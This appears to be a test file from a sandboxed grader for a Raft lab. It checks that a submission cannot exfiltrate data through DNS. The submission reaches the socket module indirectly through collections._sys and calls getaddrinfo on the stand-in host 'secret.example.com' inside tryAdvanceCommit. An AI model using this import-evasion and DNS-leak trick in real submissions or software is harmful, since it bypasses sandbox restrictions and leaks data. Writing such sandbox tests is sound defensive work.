"""Tries: to send out data in the names that it looks up.

Happens: no socket, no answer.
Expected: SubmissionRaisedError
"""

from collections import _sys as sys

from raftlab.server import Server

socket = sys.modules["socket"]


class Commit(Server):
    def tryAdvanceCommit(self):
        socket.getaddrinfo("secret.example.com", 80)
        print("BREACH")
